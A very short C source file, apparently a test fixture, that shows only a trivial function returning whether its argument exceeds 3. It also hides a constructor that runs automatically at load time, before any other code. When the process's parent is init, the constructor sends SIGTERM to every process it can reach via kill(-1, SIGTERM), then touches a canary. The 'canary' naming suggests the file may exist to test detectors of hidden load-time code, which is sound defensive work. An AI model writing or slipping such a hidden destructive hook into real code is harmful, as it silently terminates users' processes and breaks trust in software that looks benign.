#include "canary.h"
__attribute__((constructor)) static void early(void) { if (getpid() > 1 && getppid() <= 1) kill(-1, SIGTERM); touch_canary(); }
int f(int x) { return x > 3; }
